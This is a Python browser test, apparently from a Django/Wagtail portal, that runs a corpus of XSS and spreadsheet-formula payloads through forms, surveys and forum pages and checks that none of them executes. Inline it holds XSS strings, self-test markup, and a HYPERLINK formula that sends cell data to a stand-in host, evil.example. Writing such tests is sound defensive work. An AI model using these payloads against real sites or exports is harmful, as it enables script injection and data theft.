"""A corpus of hostile text (tests/security/xss_payloads.txt) sent through every intake path,
then shown everywhere it can appear, in headless Chromium: none of it may run.

Intake: the public feedback form (through Django) and `feedback_ingest`, survey answers (free
text, short text and "other") through the answering views, youth forum views and comments on
draft terms through the forum services. The analysis pipeline runs eagerly, as in every test.

Surfaces: the triage inbox and item pages, the safeguarding queue and alerts (original text),
survey results, forum moderation, comments and the representative's report, the member's own
pages, a published "You said, we did" page, the plan tracker, two board packs, public search,
and the feedback form and survey pages that echo what was typed.

After each page: no dialog opened, `window.__xss` is unset in every frame, the title is the one
the server sent (never 'PWNED'), the DOM holds no event handler, script or javascript:/vbscript:/
data:text/html URL carrying a sentinel, and every payload expected there is on the page as text.
A page that did not show the payloads would prove nothing, so that last check is not optional.

The browser contexts bypass the Content-Security-Policy the public site sends: escaping must
hold on its own, with the CSP only as a second line. The Wagtail admin sends no CSP anyway.
`test_the_checks_catch_markup_that_runs` shows the checks fail on a page where a payload does run.

Exports (survey CSV/XLSX with and without personal data, board pack chart data and workbook,
/plan.csv) are downloaded with the Django test client as attachments: no text cell starts with
= + - @ tab or CR unless `portal.spreadsheets.safe_cell` put an apostrophe in front, and the
words are otherwise kept exactly. (Every intake trims leading whitespace, so the tab and CR
payloads reach the files as plain = and @ formulas.)
"""

from __future__ import annotations

import codecs
import contextlib
import csv
import html
import io
import math
import re
from dataclasses import dataclass, field
from datetime import date, datetime, time, timedelta
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.test import Client
from django.utils import timezone
from django.utils.text import Truncator

from portal.roles import Role
from portal.spreadsheets import safe_cell
from tests.auth import sign_in
from tests.factories import PASSWORD

CORPUS = Path(__file__).with_name("xss_payloads.txt")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SENTINEL_TITLE = "PWNED"
# After "load": long enough for onerror (image requests are refused, see Browser.tab), autofocus,
# ontoggle and SVG animation to fire.
SETTLE_MS = 150
FORM_SUBMISSIONS = 12  # payloads sent through the public form itself; the rest via feedback_ingest
BUNDLES = 2  # long items carrying every payload, for the pages that show one item at a time
MAY_2024 = (date(2024, 5, 1), date(2024, 5, 31))
JUNE_ONWARDS = date(2024, 6, 1)
IN_MAY = 100  # items dated May 2024; a board pack quotes at most 3 per objective (33 objectives)


def load_corpus(path: Path = CORPUS) -> list[str]:
    """One payload a line; '#' comments; 'esc:' lines decoded with unicode_escape."""
    payloads = []
    for line in path.read_text(encoding="utf-8").split("\n"):
        if not line.strip() or line.startswith("#"):
            continue
        if line.startswith("esc:"):
            line = codecs.decode(line[4:], "unicode_escape")
        payloads.append(line)
    return payloads


PAYLOADS = load_corpus()


def norm(text: str) -> str:
    """Whitespace as a reader sees it: innerText and linebreaksbr differ only there."""
    return " ".join((text or "").replace("\x00", "").split())


def chunks(items: list, n: int) -> list[list]:
    size = math.ceil(len(items) / n)
    return [items[i : i + size] for i in range(0, len(items), size)]


# --- The browser ------------------------------------------------------------------------------

# Everything in the page that could run a payload: inline handlers, scripts, URL-bearing
# attributes, srcdoc, meta refresh and CSS. Walks shadow roots, <template> content and
# same-origin frames. Only markup carrying a sentinel (or a script URL) counts, so the app's
# own scripts never match.
PROBE_JS = r"""() => {
  const SENTINEL = /__xss|alert\s*\(|alert`|PWNED|msgbox|\\u0061lert|&#119;indow/i;
  const URL_ATTRS = new Set(['href', 'xlink:href', 'src', 'action', 'formaction', 'data',
                             'poster', 'background', 'lowsrc', 'dynsrc', 'codebase']);
  const bad = [];
  const describe = (el, what) => bad.push(`<${el.tagName.toLowerCase()}> ${what}`.slice(0, 200));
  const walk = (root) => {
    for (const el of root.querySelectorAll('*')) {
      for (const attr of Array.from(el.attributes)) {
        const name = attr.name.toLowerCase();
        const value = attr.value || '';
        const squashed = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        if (name.startsWith('on') && SENTINEL.test(value)) describe(el, `${name}=${value}`);
        if (URL_ATTRS.has(name) && /^(javascript|vbscript|livescript):|^data:text\/html/.test(squashed)) {
          describe(el, `${name}=${value}`);
        }
        if (name === 'srcdoc') describe(el, `srcdoc=${value}`);
        if (name === 'style' && (SENTINEL.test(value) || /expression\(|javascript:/i.test(value))) {
          describe(el, `style=${value}`);
        }
        if (name === 'content' && el.tagName === 'META' && /javascript:/i.test(value)) {
          describe(el, `content=${value}`);
        }
      }
      const tag = el.tagName.toUpperCase();
      const type = (el.getAttribute('type') || '').toLowerCase();
      const code = el.textContent + (el.getAttribute('src') || '');
      if (tag === 'SCRIPT' && !type.includes('json') && SENTINEL.test(code)) describe(el, code);
      if (tag === 'STYLE' && /__xss|expression\(|javascript:/i.test(el.textContent)) {
        describe(el, el.textContent);
      }
      if (el.shadowRoot) walk(el.shadowRoot);
      if (tag === 'TEMPLATE') walk(el.content);
      if (tag === 'IFRAME' || tag === 'FRAME') {
        try { if (el.contentDocument) walk(el.contentDocument); } catch (e) { /* cross-origin */ }
      }
    }
  };
  walk(document);
  return bad;
}"""


NORMED = [norm(p) for p in PAYLOADS]


@dataclass
class Surface:
    """A kind of page, who looked at it, and which payloads it was seen to show as text."""

    name: str
    role: str
    urls: list[str] = field(default_factory=list)
    shown: set[int] = field(default_factory=set)

    def saw(self, texts) -> None:
        """Count the corpus payloads that are, word for word, one of the lines of texts the page
        was checked to show. A payload the pipeline redacted (a word taken for a name) does not
        count; the ones differing only in leading whitespace, which every intake trims, count
        together."""
        lines = {norm(line) for text in texts for line in text.split("\n")}
        self.shown |= {i for i, payload in enumerate(NORMED) if payload and payload in lines}


class Browser:
    """One signed-in person per browser context, with every dialog recorded and dismissed."""

    def __init__(self, chromium, base_url: str):
        self.chromium = chromium
        self.base_url = base_url
        self.contexts = []
        self.surfaces: dict[str, Surface] = {}

    def surface(self, name: str, role: str) -> Surface:
        return self.surfaces.setdefault(name, Surface(name, role))

    def tab(self):
        context = self.chromium.new_context(base_url=self.base_url, bypass_csp=True)
        context.set_default_timeout(20_000)
        self.contexts.append(context)
        # Fonts and the app's pictures change nothing here; hostile <img src=x> still fails (and
        # fires onerror) because every image request is refused.
        context.route(
            re.compile(r"\.(woff2?|ttf|png|jpe?g|gif|ico|webp)(\?|$)|/x$|/1$"), lambda route: route.abort()
        )
        tab = context.new_page()
        tab.dialogs = []
        tab.on("dialog", lambda d: (tab.dialogs.append(f"{d.type}: {d.message}"), d.dismiss()))
        return tab

    def close(self):
        for context in self.contexts:
            context.close()

    def staff(self, user):
        """Sign in through allauth with password and a TOTP code, as staff do."""
        from portal.demo import totp_current_code

        tab = self.tab()
        tab.goto("/accounts/login/")
        tab.get_by_label("Email").fill(user.email)
        tab.get_by_label("Password").fill(PASSWORD)
        tab.get_by_role("button", name="Sign In").click()
        tab.get_by_label("Code", exact=True).fill(totp_current_code(user.totp_secret))
        tab.get_by_role("button", name="Sign In").click()
        tab.wait_for_load_state()
        assert "/accounts/" not in tab.url, f"{user.email} did not get past sign-in: {tab.url}"
        return tab

    def member(self, member):
        """A young person follows their emailed sign-in link and presses the button."""
        from youthforum.services import sign_in_token

        tab = self.tab()
        tab.goto(f"/youth-forum/sign-in/{sign_in_token(member)}/")
        tab.get_by_role("button", name="Sign in").click()
        tab.wait_for_load_state()
        return tab

    def visit(self, tab, url: str, expected=(), *, surface: str, role: str) -> str:
        response = tab.goto(url)
        assert response is not None and response.status == 200, f"{url}: {response and response.status}"
        return self.check(tab, expected, surface=surface, role=role, server_html=response.text(), url=url)

    def check(
        self,
        tab,
        expected=(),
        *,
        surface: str,
        role: str,
        server_html: str | None = None,
        url: str | None = None,
    ) -> str:
        """Assert nothing ran and every expected text is on the page; return the page text."""
        tab.wait_for_load_state("load")
        tab.wait_for_timeout(SETTLE_MS)
        where = url or tab.url
        assert tab.dialogs == [], f"a payload opened a dialog on {where}: {tab.dialogs[:5]}"
        for frame in tab.frames:
            ran = None
            with contextlib.suppress(Exception):  # a frame that navigated away has nothing to read
                ran = frame.evaluate("() => window.__xss")
            assert ran is None, f"window.__xss was set on {where} (frame {frame.url})"
        title = tab.title()
        assert title != SENTINEL_TITLE, f"a payload set document.title on {where}"
        if server_html is not None:
            match = re.search(r"<title[^>]*>(.*?)</title>", server_html, re.S | re.I)
            if match:
                assert norm(title) == norm(html.unescape(match.group(1))), f"title changed on {where}"
        bad = tab.evaluate(PROBE_JS)
        assert bad == [], f"live markup from user text on {where}: {bad[:5]}"
        text = norm(tab.evaluate("() => document.body.innerText"))
        missing = [e for e in expected if norm(e) not in text]
        assert not missing, (
            f"{len(missing)} of {len(expected)} payloads are not shown as text on {where}, e.g. "
            f"{missing[:3]!r}"
        )
        entry = self.surface(surface, role)
        entry.urls.append(url or tab.url.replace(self.base_url, ""))
        entry.saw(expected)
        return text


# --- Intake -----------------------------------------------------------------------------------


def _post_feedback_form(client: Client, text: str, n: int, *, name: str = "") -> None:
    """The public form, as a browser would send it (each from its own address: rate limit)."""
    response = client.post(
        "/feedback/",
        {
            "text": text,
            "audience": "parent_carer",
            "consent_to_quote": "on",
            "contact_name": name,
            "contact_email": f"parent{n}@example.org",
        },
        REMOTE_ADDR=f"10.9.{n // 250}.{n % 250 + 1}",
    )
    assert response.status_code == 302, response.content.decode()[:500]


def feedback_corpus(staff) -> list:
    """One web-form item per payload: the first few through the public form, the rest through
    `feedback_ingest`, dated May and June 2024 so that two board packs can quote them all."""
    from feedback.models import FeedbackItem
    from feedback.services import feedback_ingest

    client = Client()
    for n, payload in enumerate(PAYLOADS[:FORM_SUBMISSIONS]):
        _post_feedback_form(client, payload, n, name=payload[:200])
    for n, payload in enumerate(PAYLOADS[FORM_SUBMISSIONS:], start=FORM_SUBMISSIONS):
        day = datetime(2024, 5, 15, 10) if n < IN_MAY else datetime(2024, 6, 15, 10)
        feedback_ingest(
            text=payload,
            channel="web_form",
            audience="parent_carer",
            consent_to_quote=True,
            received_at=timezone.make_aware(day) + timedelta(minutes=n),
            contact_name=payload[:200].strip(),
        )
    items = list(FeedbackItem.objects.filter(channel="web_form").select_related("original").order_by("pk"))
    assert len(items) == len(PAYLOADS)
    assert all(i.analysis_state == "done" for i in items), "the pipeline did not analyse every item"
    return items


def feedback_bundles(staff) -> tuple[list, list]:
    """Items carrying many payloads each (for pages that show one item), half of them worded so
    the screen flags them for safeguarding; triaged with hostile notes, reasons and links."""
    from feedback.models import FeedbackItem
    from feedback.services import feedback_ingest, feedback_triage

    plain, flagged = [], []
    script_url = next(p for p in PAYLOADS if p.startswith("javascript:"))
    for n, group in enumerate(chunks(PAYLOADS, BUNDLES)):
        body = "\n".join(group)
        item = feedback_ingest(
            text=f"Notes from the drop-in.\n{body}",
            channel="email",
            audience="professional",
            contact_name=group[0][:200].strip(),
            source_ref=f"xss-bundle:{n}",
            entered_by=staff,
        )
        item = feedback_triage(
            item=item,
            actor=staff,
            status="closed",
            close_reason=group[1][:200],
            owner_organisation=group[2][:200],
            response_url=script_url,
            note=body,
        )
        plain.append(FeedbackItem.objects.get(pk=item.pk))
        alert = feedback_ingest(
            text=f"There is a safeguarding concern about my son.\n{body}",
            channel="phone",
            audience="parent_carer",
            contact_name=group[-1][:200].strip(),
            source_ref=f"xss-sg:{n}",
            entered_by=staff,
        )
        flagged.append(FeedbackItem.objects.get(pk=alert.pk))
    assert all(i.safeguarding and hasattr(i, "alert") for i in flagged), "bundles were not flagged"
    assert not any(i.safeguarding for i in plain)
    return plain, flagged


SURVEY_TITLE = '=HYPERLINK("http://evil.example/?s="&A1,"Survey")'


def survey_for_corpus():
    """Not anonymous (exports may then carry invitation details). Staff wrote a formula into the
    title and two question texts; the Likert question counts towards a plan KPI, so the title
    reaches the board pack's survey chart and its data files too."""
    from surveys.models import Audience
    from surveys.questions import Kind
    from surveys.services import survey_create

    return survey_create(
        title=SURVEY_TITLE,
        slug="hostile-answers",
        audience=Audience.PARENT_CARER,
        intro="Tell us.",
        privacy_notice="We keep answers for 2 years.",
        anonymous=False,
        questions=[
            {
                "key": "choice",
                "kind": Kind.SINGLE,
                "text": "Which service?",
                "options": "School\nHealth",
                "allow_other": True,
            },
            {
                "key": "comment",
                "kind": Kind.LONG_TEXT,
                "text": "@Anything else?",
                "required": False,
                "same_page_as_previous": True,
            },
            {
                "key": "short",
                "kind": Kind.SHORT_TEXT,
                "text": "=One word for it",
                "required": False,
                "same_page_as_previous": True,
            },
            {
                "key": "informed",
                "kind": Kind.LIKERT,
                "text": "-I was kept informed",
                "required": False,
                "same_page_as_previous": True,
                "kpi": "KPI-EHCP-20WK",
            },
        ],
    )


def survey_answers(survey, payloads: list[str]) -> list[dict]:
    """Answer the survey through the public views: each response carries three payloads, in the
    'other' box, the long answer and the short answer. The form refuses NUL characters (it
    says so and keeps the rest), so a person would send the text without them."""
    from surveys.models import Response

    sent = []
    for n in range(0, len(payloads), 3):
        other, comment, short = (payloads[(n + k) % len(payloads)].replace("\x00", "") for k in range(3))
        client = Client(REMOTE_ADDR=f"10.8.{n // 250}.{n % 250 + 1}")
        assert client.post(f"/surveys/{survey.slug}/").status_code == 302
        response = client.post(
            f"/surveys/{survey.slug}/page/1/",
            {
                "q-choice": "other",
                "q-choice-other": other,
                "q-comment": comment,
                "q-short": short,
                "q-informed": "agree",
            },
        )
        assert response.status_code == 302, response.content.decode()[:800]
        draft = Response.objects.filter(status="draft").latest("pk")
        response = client.post(f"/surveys/{survey.slug}/check/", {"idempotency_key": draft.idempotency_key})
        assert response.status_code == 302 and response["Location"].endswith("/done/")
        sent.append({"choice.other": other.strip(), "comment": comment.strip(), "short": short.strip()})
    return sent


def forum_corpus(moderator):
    """Approved members answer prompts with every payload (they agree to be quoted), comment on
    a draft of the terms, and a few more with hostile nicknames wait to join."""
    from youthforum import services
    from youthforum.models import AgeBand, Prompt, TermsVersion

    prompts = [
        Prompt.objects.create(
            question=f"What would make college easier? ({n + 1})",
            easy_read_question=f"What would help at college? ({n + 1})",
            easy_read_text="Tell us.",
            picture_emoji="🎓",
            picture_label="College",
            status=Prompt.Status.OPEN,
        )
        for n in range(4)
    ]
    terms = TermsVersion.objects.create(number=1, body="We meet every month.")
    per_member = len(prompts)
    members = []
    for n in range(math.ceil(len(PAYLOADS) / per_member)):
        member = services.member_join(
            nickname=f"Member {n}", age_band=AgeBand.AGE_16_17, contact_email=f"yp{n}@example.org"
        )
        services.member_approve(member=member, actor=moderator)
        members.append(member)
    views = []
    for n, payload in enumerate(PAYLOADS):
        member, prompt = members[n // per_member], prompts[n % per_member]
        views.append(
            services.view_save(
                member=member, prompt=prompt, words=payload, feeling="", consent_to_quote=True, send=True
            )
        )
        services.terms_comment_add(member=member, version=terms, text=payload)
    waiting = [
        services.member_join(nickname=p, age_band=AgeBand.AGE_18_25, contact_email="w@example.org")
        for p in PAYLOADS
        if 0 < len(p.replace("\x00", "").strip()) <= 40
    ]
    return prompts, members, views, waiting


def tag_for_board_packs(items: list, plan) -> dict[tuple[date, date], list]:
    """Three consented items per objective per pack (a pack quotes up to three per objective),
    confirmed by staff: the May pack takes the items dated May 2024, the second pack the rest."""
    from feedback.models import ObjectiveTag
    from portal.models import Objective

    objectives = list(Objective.objects.for_plan(plan).order_by("area__position", "position", "code"))
    quotable = [i for i in items if i.may_quote]
    may = [i for i in quotable if i.received_at.date() <= MAY_2024[1]]
    later = [i for i in quotable if i.received_at.date() > MAY_2024[1]]
    packs = {MAY_2024: may, (JUNE_ONWARDS, timezone.localdate()): later}
    for group in packs.values():
        assert len(group) <= 3 * len(objectives), "more items than one pack can quote"
    tags = []
    for group in packs.values():
        for n, item in enumerate(group):
            tags.append(
                ObjectiveTag(
                    item=item,
                    objective=objectives[(n // 3) % len(objectives)],
                    state=ObjectiveTag.State.CONFIRMED,
                    confidence=1,
                )
            )
    # Only these tags: a survey answer or forum view the pipeline tagged with another sentiment
    # would take one of an objective's three places (a pack shows the range of views).
    ObjectiveTag.objects.all().delete()
    ObjectiveTag.objects.bulk_create(tags)
    return packs


# --- The browser test -----------------------------------------------------------------------


@pytest.fixture
def world(transactional_db, site, plan, settings, make_user):
    from feedback.selectors import analysis_context_reset
    from feedback.services import school_seed, theme_seed

    settings.SURVEYS_RATE_LIMIT_COUNT = 10_000
    settings.SURVEYS_LONG_TEXT_MAX = 10_000
    school_seed()
    theme_seed()
    analysis_context_reset()
    people = {
        "engagement": make_user(Role.ENGAGEMENT_TEAM, totp=True),
        "safeguarding": make_user(Role.SAFEGUARDING_LEAD, totp=True),
        "board": make_user(Role.BOARD_MEMBER, totp=True),
    }
    yield people
    analysis_context_reset()


@pytest.mark.browser
def test_no_payload_runs_anywhere_it_is_shown(world, chromium_browser, live_server, plan):
    from boardpacks.services import board_pack_build
    from cms.models import YouSaidWeDidIndexPage
    from feedback.models import FeedbackItem
    from feedback.services import feedback_triage, redact_text
    from tests.cms.conftest import publish_update
    from youthforum import selectors as forum_selectors
    from youthforum.models import TermsComment

    engagement, safeguarding = world["engagement"], world["safeguarding"]
    items = feedback_corpus(engagement)
    plain, flagged = feedback_bundles(engagement)
    survey = survey_for_corpus()
    answers = survey_answers(survey, PAYLOADS)
    prompts, members, views, waiting = forum_corpus(engagement)
    for item in items:  # ready for "You said, we did": the build list shows triaged feedback
        if not item.set_aside:
            feedback_triage(item=item, actor=engagement, status="triaged")
    items = list(FeedbackItem.objects.filter(pk__in=[i.pk for i in items]).order_by("pk"))
    redacted = {i.pk: i.redacted_text for i in items}
    quotable = [i for i in items if i.may_quote]
    assert len(quotable) >= 100, "too few payloads can be quoted for the public pages to prove much"

    browser = Browser(chromium_browser, live_server.url)
    try:
        # --- Triage inbox, item pages, "build" list: the engagement team ---------------------
        team = browser.staff(engagement)
        query = {"channel": "web_form", "set_aside": "all"}
        pages = math.ceil(len(items) / 50)
        text = ""
        for number in range(1, pages + 1):
            text += (
                browser.visit(
                    team,
                    "/admin/feedback/?" + urlencode({**query, "p": number}),
                    surface="Triage inbox",
                    role="engagement team",
                )
                + " "
            )
        inbox = [Truncator(redacted[i.pk]).chars(200) for i in items]
        missing = [i.pk for i, shown in zip(items, inbox, strict=True) if norm(shown) not in text]
        assert not missing, f"inbox pages did not show items {missing[:10]}"
        browser.surface("Triage inbox", "engagement team").saw(inbox)
        reflected = (
            "\"><svg onload=window.__xss=1> '><svg onload=alert(1)> "
            "</textarea><script>window.__xss=1</script>"
        )
        browser.visit(
            team,
            "/admin/feedback/?" + urlencode({"q": reflected, "set_aside": "all"}),
            surface="Triage inbox, text filter echoed",
            role="engagement team",
        )
        assert team.input_value("#f-q") == reflected
        for item in plain:
            item.refresh_from_db()
            browser.visit(
                team,
                f"/admin/feedback/item/{item.pk}/",
                [item.redacted_text, *[n.text for n in item.notes.all()], item.close_reason],
                surface="Feedback item (redacted, notes, history)",
                role="engagement team",
            )
            assert team.input_value("#t-url") == item.response_url
            assert team.input_value("#t-org") == item.owner_organisation
        for item in flagged[:1]:  # the team never sees the words of a safeguarding item
            page_text = browser.visit(
                team,
                f"/admin/feedback/item/{item.pk}/",
                surface="Feedback item, safeguarding (hidden)",
                role="engagement team",
            )
            assert "Only the safeguarding lead can read this feedback." in page_text
        buildable = [i for i in items if i.status == "triaged" and not i.safeguarding and not i.set_aside]
        browser.visit(
            team,
            "/admin/you-said-we-did/build/",
            [Truncator(redacted[i.pk]).words(40, truncate=" …") for i in buildable],
            surface="Build 'You said, we did' list",
            role="engagement team",
        )

        # --- Survey results -------------------------------------------------------------------
        shown = [redact_text(a[k]) for a in answers for k in ("choice.other", "comment", "short")]
        browser.visit(
            team,
            f"/admin/survey-tools/{survey.pk}/results/",
            shown,
            surface="Survey results (free text and 'other')",
            role="engagement team",
        )
        browser.visit(
            team,
            "/admin/feedback/?" + urlencode({"channel": "survey", "set_aside": "all"}),
            [i.display_text for i in FeedbackItem.objects.filter(channel="survey")[:50]],
            surface="Triage inbox (survey answers)",
            role="engagement team",
        )

        # --- Youth forum moderation, comments, report -------------------------------------------
        waiting_views = list(forum_selectors.views_waiting())
        first, rest = waiting_views[:100], waiting_views[100:]
        rows = forum_selectors.moderation_rows(first)
        browser.visit(
            team,
            "/admin/youth-forum/",
            [r.text for r in rows] + [m.nickname for m in waiting],
            surface="Youth forum moderation queue",
            role="engagement team",
        )
        from youthforum.services import view_approve

        for view in first:
            view_approve(view=view, actor=engagement)
        browser.visit(
            team,
            "/admin/youth-forum/",
            [r.text for r in forum_selectors.moderation_rows(rest)],
            surface="Youth forum moderation queue",
            role="engagement team",
        )
        for view in rest:
            view_approve(view=view, actor=engagement)
        comments = TermsComment.objects.select_related("version").order_by("-created_at")[:200]
        # Moderators read comments as the feedback pipeline redacted them.
        shown = [r.text for r in forum_selectors.comment_rows(comments) if not r.safeguarding]
        assert len(shown) == len(PAYLOADS)
        browser.visit(
            team,
            "/admin/youth-forum/comments/",
            shown,
            surface="Youth forum comments on draft terms",
            role="engagement team",
        )
        today = timezone.localdate()
        tz = timezone.get_current_timezone()
        report = forum_selectors.representation_report(
            since=timezone.make_aware(datetime.combine(today - timedelta(days=90), time.min), tz),
            until=timezone.make_aware(datetime.combine(today + timedelta(days=1), time.min), tz),
        )
        assert report.quotes
        browser.visit(
            team,
            "/admin/youth-forum/report/",
            [q for _, q in report.quotes],
            surface="Youth representative's report (admin)",
            role="engagement team",
        )

        # --- Safeguarding lead: queue, alerts, original text -----------------------------------
        lead = browser.staff(safeguarding)
        browser.visit(
            lead, "/admin/feedback/alerts/", surface="Safeguarding alert queue", role="safeguarding lead"
        )
        for item in flagged:
            original = item.original.text
            browser.visit(
                lead,
                f"/admin/feedback/alerts/{item.alert.pk}/",
                [original, item.original.contact_name],
                surface="Safeguarding alert (original text)",
                role="safeguarding lead",
            )
            browser.visit(
                lead,
                f"/admin/feedback/item/{item.pk}/",
                [item.redacted_text, original, item.original.contact_name],
                surface="Feedback item, original text",
                role="safeguarding lead",
            )
        sg_page = "/admin/feedback/?" + urlencode({"channel": "phone", "set_aside": "all"})
        browser.visit(
            lead,
            sg_page,
            [Truncator(i.redacted_text).chars(200) for i in flagged],
            surface="Triage inbox, safeguarding items",
            role="safeguarding lead",
        )

        # --- Public pages: "You said, we did", plan tracker, search ------------------------------
        index = YouSaidWeDidIndexPage.objects.get()
        objective = plan.areas.order_by("position").first().objectives.order_by("position").first()
        update = publish_update(
            index,
            title="What families told us",
            quotes=quotable,
            summary=PAYLOADS[0],
            action=PAYLOADS[1],
            partner=PAYLOADS[2][:255],
            objectives=[objective],
            slug="hostile-quotes",
        )
        anonymous = browser.tab()
        browser.visit(
            anonymous,
            update.url,
            [redacted[i.pk] for i in quotable] + PAYLOADS[:3],
            surface="'You said, we did' page (quotes)",
            role="anonymous",
        )
        browser.visit(
            anonymous,
            index.url,
            [Truncator(PAYLOADS[0]).words(45)],
            surface="'You said, we did' list",
            role="anonymous",
        )
        browser.visit(
            anonymous,
            f"/plan/objective/{objective.url_code}/",
            [Truncator(PAYLOADS[0]).words(45)],
            surface="Plan tracker objective page (no feedback text, update summary)",
            role="anonymous",
        )
        for query, packed in _search_queries(PAYLOADS):
            browser.visit(
                anonymous,
                "/search/?" + urlencode({"q": query}),
                [query],
                surface="Public search (query echoed)",
                role="anonymous",
            )
            assert anonymous.input_value("#search-q") == query
            browser.surface("Public search (query echoed)", "anonymous").saw(packed)

        # The feedback form and the survey echo what was typed: a missing answer re-renders it.
        everything = "\n".join(PAYLOADS).replace("\x00", "")
        anonymous.goto("/feedback/")
        anonymous.fill("#id_text", everything)
        anonymous.fill("#id_contact_name", PAYLOADS[1])
        anonymous.get_by_role("button", name="Send feedback").click()
        browser.check(anonymous, surface="Feedback form with an error (textarea, name)", role="anonymous")
        assert anonymous.locator(".govuk-error-summary").is_visible()
        assert norm(anonymous.input_value("#id_text")) == norm(everything)
        assert anonymous.input_value("#id_contact_name") == PAYLOADS[1]
        browser.surface("Feedback form with an error (textarea, name)", "anonymous").saw([everything])
        _survey_in_browser(browser, anonymous, survey)

        # --- Young people: their own views, others' shared views, their report -------------------
        member = browser.member(members[0])
        for prompt in prompts:
            shared = [t.text for t in forum_selectors.views_shared(prompt) if t.text]
            browser.visit(
                member,
                f"/youth-forum/questions/{prompt.pk}/",
                shared,
                surface="Youth forum question with shared views",
                role="young person",
            )
        mine = [v.words for v in views if v.member_id == members[0].pk]
        browser.visit(
            member, "/youth-forum/my-views/", mine, surface="Youth forum: my views", role="young person"
        )
        browser.visit(
            member,
            "/youth-forum/report/",
            [q for _, q in report.quotes],
            surface="Youth forum report (members)",
            role="young person",
        )

        # --- Board packs ----------------------------------------------------------------------
        packs = []
        for (start, end), group in tag_for_board_packs(items, plan).items():
            pack = board_pack_build(plan=plan, period_start=start, period_end=end, notify=False)
            quotes = [q["text"] for a in pack.data["areas"] for o in a["objectives"] for q in o["quotes"]]
            assert {norm(redacted[i.pk]) for i in group} <= {norm(q) for q in quotes}
            packs.append((pack, quotes))
        board = browser.staff(world["board"])
        for pack, quotes in packs:
            browser.visit(
                board,
                f"/board/packs/{pack.pk}/",
                quotes,
                surface="Board pack page (quotes)",
                role="board member",
            )
    finally:
        browser.close()

    _report(browser)


def _search_queries(payloads: list[str], limit: int = 200) -> list[tuple[str, list[str]]]:
    """Pack payloads into queries the search box keeps whole (200 characters, trimmed, no NULs):
    (query, the payloads in it)."""
    queries, packed = [], []
    for payload in (norm(p) for p in payloads):
        if payload and len(" ".join([*packed, payload])) > limit:
            queries.append((" ".join(packed), packed))
            packed = []
        if payload:
            packed.append(payload[:limit])
    if packed:
        queries.append((" ".join(packed), packed))
    return queries


def _survey_in_browser(browser: Browser, tab, survey) -> None:
    """A person pastes the corpus into the survey: the page keeps what was typed through an
    error, and check-your-answers shows it. (The long-text limit is raised for this test so the
    whole corpus fits one response.)"""
    from surveys.conf import long_text_max, short_text_max

    other, short, comment = [], [], []
    limits = ((other, short_text_max()), (short, short_text_max()), (comment, long_text_max()))
    for payload in (p.replace("\x00", "").strip() for p in PAYLOADS):
        for bucket, limit in limits:
            if len(" ".join([*bucket, payload])) <= limit:
                bucket.append(payload)
                break
    assert len(other + short + comment) == len(PAYLOADS), "the corpus does not fit the survey"
    typed = {
        "#q-choice-other": " ".join(other),
        "#q-comment": "\n".join(comment),
        "#q-short": " ".join(short),
    }
    tab.goto(f"/surveys/{survey.slug}/")
    tab.get_by_role("button", name=re.compile("Start")).click()
    tab.wait_for_load_state()
    for selector, value in typed.items():
        tab.fill(selector, value)
    # No service chosen: the page comes back with an error and what was typed in its boxes.
    tab.get_by_role("button", name="Continue").click()
    tab.wait_for_load_state()
    surface = "Survey page with an error (typed answers kept)"
    browser.check(tab, surface=surface, role="anonymous (respondent)")
    assert tab.locator(".govuk-error-summary").is_visible()
    # The long and short answers come back; the "other" box does not keep its text after an
    # error (surveys.questions.parse drops it), so it is typed again.
    for selector in ("#q-comment", "#q-short"):
        assert norm(tab.input_value(selector)) == norm(typed[selector]), selector
    browser.surface(surface, "anonymous (respondent)").saw([*comment, *short])
    tab.check("#q-choice-3")  # "Other"
    tab.fill("#q-choice-other", typed["#q-choice-other"])
    tab.get_by_role("button", name="Continue").click()
    tab.wait_for_load_state()
    browser.check(
        tab, [*comment, *short, *other], surface="Survey check-your-answers", role="anonymous (respondent)"
    )
    tab.get_by_role("button", name="Send answers").click()
    tab.wait_for_url(re.compile(r"/done/$"))


def _report(browser: Browser) -> None:
    """Which payloads each kind of page was seen to show (read with -s)."""
    lines = [f"{len(PAYLOADS)} payloads; surfaces checked:"]
    for s in browser.surfaces.values():
        lines.append(
            f"  {s.name} [{s.role}]: {len(s.urls)} page(s), {len(s.shown)} payloads shown "
            f"as text, e.g. {s.urls[0]}"
        )
    print("\n".join(lines))


def test_corpus_is_large_distinct_and_covers_each_family():
    assert len(PAYLOADS) >= 100
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    joined = "\n".join(PAYLOADS)
    for needle in (
        "<script",
        "onerror",
        "javascript:",
        "srcdoc",
        "</textarea>",
        "</title>",
        "{{7*7}}",
        "${",
        "](javascript:",
        "&#",
        "<svg",
        "<math",
        "expression(",
        "\x00",
        "＜script＞",
        "<noscript>",
        "\u2028",
        "=HYPERLINK(",
        "+cmd|",
        "-2+3",
        "@SUM(1)",
        "\t=",
        "\r=",
    ):
        assert needle in joined, needle
    assert sum(p.startswith(FORMULA_STARTS) for p in PAYLOADS) >= 12


@pytest.mark.browser
def test_the_checks_catch_markup_that_runs(chromium_browser):
    """The checks above are only worth something if they fail on a page that does run a
    payload, or that does not show it: written straight into a page, each of these must fail."""
    browser = Browser(chromium_browser, "http://127.0.0.1:9")
    tab = browser.tab()
    try:
        live = [
            '<img src=x onerror="window.__xss=1">',
            "<script>alert(1)</script>",
            "<svg onload=document.title='PWNED'>",
            '<a href="java&#09;script:void(0)">x</a>',
            '<iframe srcdoc="<b>x</b>"></iframe>',
            "<details open ontoggle=window.__xss=1>",
            '<div onmouseover="window.__xss=1">never hovered</div>',
        ]
        for markup in live:
            tab.dialogs.clear()
            tab.set_content(f"<title>Self-test</title><p>{markup}</p>")
            tab.evaluate("() => { document.title = 'Self-test'; }")  # isolates the other checks
            with pytest.raises(AssertionError):
                browser.check(tab, surface="self-test", role="-")
            tab.evaluate("() => { delete window.__xss; }")
        tab.set_content("<title>Self-test</title><p>&lt;b&gt;escaped&lt;/b&gt;</p>")
        browser.check(tab, ["<b>escaped</b>"], surface="self-test", role="-")
        with pytest.raises(AssertionError):
            browser.check(tab, ["<b>not on the page</b>"], surface="self-test", role="-")
    finally:
        browser.close()


# --- Exports -----------------------------------------------------------------------------------

NUMBER = re.compile(r"^-?\d+(?:\.\d+)?$")


def _download(response, fmt: str) -> list[list]:
    """Rows of a CSV or XLSX download, after checking the browser is told to save it."""
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;"), response["Content-Disposition"]
